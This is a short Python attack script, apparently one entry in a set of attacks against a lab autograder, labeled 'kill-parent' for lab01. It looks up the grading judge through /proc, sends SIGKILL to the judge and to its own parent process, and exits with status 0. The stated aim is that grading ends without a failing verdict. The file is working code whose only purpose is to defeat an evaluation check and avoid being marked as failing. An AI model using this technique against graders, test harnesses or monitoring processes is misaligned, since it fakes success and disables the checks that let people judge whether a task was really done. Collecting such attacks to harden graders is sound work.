# attack: kill-parent
# lab: lab01
# targets: 1.1 1.2
# Kills the process that started it and the judge above that (found through /proc), so that
# grading ends without a failing verdict.
import os
import signal


def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


_parent = os.getppid()
_judge = _ppid(_parent)
for _pid in (_judge, _parent):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
os._exit(0)
